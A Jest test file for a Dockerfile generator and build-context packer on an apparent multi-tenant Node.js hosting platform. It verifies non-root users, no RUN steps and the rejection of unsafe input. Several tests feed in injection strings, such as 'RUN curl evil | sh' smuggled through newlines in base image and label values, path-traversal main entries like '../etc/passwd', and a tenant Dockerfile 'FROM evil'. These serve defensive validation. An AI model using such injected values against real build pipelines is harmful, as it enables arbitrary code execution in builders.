import { describe, expect, it } from '@jest/globals';
import { Readable } from 'node:stream';
import {
  buildContextTar,
  DOCKERIGNORE,
  dependencyDockerfile,
  enginesWarning,
  generateDockerfile,
  type DockerfileInput,
} from './dockerfile.js';
import { collect, listTar, tarGz } from './testing/archive-fixtures.js';

const base: DockerfileInput = {
  baseImage: 'berth-deps-app1:0123456789abcdef0123456789abcdef',
  start: { kind: 'script' },
  runtimeNodeVersion: '20.20.2',
};
const lines = (input: Partial<DockerfileInput> = {}) =>
  generateDockerfile({ ...base, ...input }).dockerfile.split('\n');
const instructions = (text: string) =>
  text
    .split('\n')
    .filter((line) => /^[A-Z]+ /.test(line))
    .map((line) => line.split(' ')[0]);

describe('dependencyDockerfile', () => {
  it('copies the installed node_modules onto the runtime image and runs nothing (no RUN step)', () => {
    const text = dependencyDockerfile('berth/node-runtime:local');
    expect(instructions(text)).toEqual(['FROM', 'COPY']);
    expect(text).toMatch(/^FROM berth\/node-runtime:local$/m);
    expect(text).toMatch(/^COPY --chown=10001:10001 node_modules \/app\/node_modules$/m);
  });

  it('refuses a runtime image that could inject instructions', () => {
    expect(() => dependencyDockerfile('node:20\nRUN curl evil | sh')).toThrow('invalid base image');
  });
});

describe('generateDockerfile', () => {
  it('builds FROM the dependency image with no RUN step: tenant code never runs in the builder', () => {
    const text = generateDockerfile(base).dockerfile;
    expect(text).toMatch(/^FROM berth-deps-app1:0123456789abcdef0123456789abcdef$/m);
    expect(instructions(text)).toEqual(['FROM', 'ENV', 'WORKDIR', 'USER', 'EXPOSE', 'CMD', 'COPY']);
    expect(text).not.toMatch(/^RUN /m);
    expect(text).not.toContain('npm ci');
    expect(text).not.toContain('npm install');
  });

  it('puts everything the source does not change before its COPY, and the labels in one LABEL after it', () => {
    // The classic builder runs each instruction after a changed one as a container and a commit: a
    // code-only change now builds the COPY and one LABEL, not EXPOSE, CMD and one step per label too.
    const text = generateDockerfile({
      ...base,
      labels: { 'berth.tenant': 't-1', 'berth.app': 'a-1', 'berth.build': 'b-1' },
    }).dockerfile;
    expect(instructions(text)).toEqual(['FROM', 'ENV', 'WORKDIR', 'USER', 'EXPOSE', 'CMD', 'COPY', 'LABEL']);
    expect(text).toContain(
      'LABEL berth.app="a-1" \\\n      berth.build="b-1" \\\n      berth.tenant="t-1"\n',
    );
  });

  it('refuses a label that could end the instruction or inject another one', () => {
    for (const labels of <Record<string, string>[]>[
      { 'berth.app': 'a"\nRUN curl evil | sh' },
      { 'berth.app': 'a\\' },
      { 'berth.app': '$HOME' },
      { 'berth.app x=': 'a' },
      { 'berth.app\nRUN': 'a' },
    ]) {
      expect(() => generateDockerfile({ ...base, labels })).toThrow(/invalid (label key|value of label)/);
    }
  });

  it("keeps the source's node_modules out, so the installed ones stay", () => {
    expect(DOCKERIGNORE.split('\n')).toContain('**/node_modules');
  });

  it('runs as uid 10001 in /app with the production environment and the PORT contract', () => {
    const text = generateDockerfile(base).dockerfile;
    expect(text).toMatch(/^WORKDIR \/app$/m);
    expect(text).toMatch(/^USER 10001$/m);
    for (const env of [
      'NODE_ENV=production',
      'PORT=8080',
      'npm_config_cache=/tmp/.npm',
      'HOME=/tmp',
      'NODE_EXTRA_CA_CERTS=/etc/ssl/certs/ca-certificates.crt',
    ]) {
      expect(text).toContain(env);
    }
    const all = text.split('\n');
    expect(
      all.filter((line) => line.startsWith('COPY')).every((line) => line.includes('--chown=10001:10001')),
    ).toBe(true);
  });

  it('starts with npm start when there is a start script', () => {
    expect(lines({ start: { kind: 'script' } })).toContain('CMD ["npm","start"]');
  });

  it('starts with node <main> otherwise', () => {
    expect(lines({ start: { kind: 'main', main: './dist/server.js' } })).toContain(
      'CMD ["node","dist/server.js"]',
    );
  });

  it.each([['../etc/passwd'], ['/bin/sh'], ['--require=/x.js'], ['a\nRUN evil']])(
    'refuses an unsafe main: %j',
    (main) => {
      expect(() => generateDockerfile({ ...base, start: { kind: 'main', main } })).toThrow('unsafe main');
    },
  );

  it('refuses a base image that could inject instructions', () => {
    expect(() => generateDockerfile({ ...base, baseImage: 'node:20\nRUN curl evil | sh' })).toThrow(
      'invalid base image',
    );
  });

  it('is deterministic, so the cache keys of unchanged layers stay the same', () => {
    expect(generateDockerfile(base)).toEqual(generateDockerfile(base));
  });

  it('warns (never fails) when engines.node excludes the runtime version', () => {
    expect(generateDockerfile({ ...base, nodeEnginesRange: '>=22' }).warnings).toEqual([
      expect.stringContaining("does not include the runtime's Node.js 20.20.2"),
    ]);
    expect(generateDockerfile({ ...base, nodeEnginesRange: '^20.19 || >=22' }).warnings).toEqual([]);
    expect(generateDockerfile(base).warnings).toEqual([]);
  });

  it('warns about an engines.node that is not a range', () => {
    expect(enginesWarning('banana', '20.20.2')).toContain('not a valid version range');
    expect(enginesWarning('20.x', '20.20.2')).toBeUndefined();
    expect(enginesWarning('>=18 <20', '20.20.2')).toContain('does not include');
  });
});

describe('buildContextTar', () => {
  const sourceEntries = [
    { name: 'package.json', body: '{}' },
    { name: 'lib/', type: 'directory' as const },
    { name: 'lib/app.js', body: 'app' },
    { name: 'bin', type: 'symlink' as const, linkname: 'lib' },
    { name: 'Dockerfile', body: 'FROM evil' },
    { name: '.dockerignore', body: 'package.json' },
  ];

  it.each([
    ['a stored tar.gz', true],
    ['a plain tar', false],
  ])('puts the generated Dockerfile and .dockerignore before the sources of %s', async (_label, gzip) => {
    const { dockerfile } = generateDockerfile(base);
    const normalizedTar = Readable.from([await tarGz(sourceEntries, { gzip })]);
    const listed = await listTar(await collect(buildContextTar({ normalizedTar, dockerfile })));
    // The tenant's own Dockerfile and .dockerignore are left out: ours cannot be replaced.
    expect(listed.map((entry) => entry.name)).toEqual([
      'Dockerfile',
      '.dockerignore',
      'package.json',
      'lib/',
      'lib/app.js',
      'bin',
    ]);
    expect(listed[0].body).toBe(dockerfile);
    expect(listed[1].body).toBe(DOCKERIGNORE);
    expect(listed.find((entry) => entry.name === 'lib/app.js')?.body).toBe('app');
    expect(listed.find((entry) => entry.name === 'bin')).toMatchObject({ type: 'symlink', linkname: 'lib' });
    expect(listed.every((entry) => entry.uid === 0 && entry.gid === 0)).toBe(true);
  });

  it('fails the stream when the stored source is corrupt', async () => {
    const gz = await tarGz(sourceEntries);
    const normalizedTar = Readable.from([gz.subarray(0, gz.length - 30)]);
    await expect(collect(buildContextTar({ normalizedTar, dockerfile: 'FROM x' }))).rejects.toThrow();
  });
});
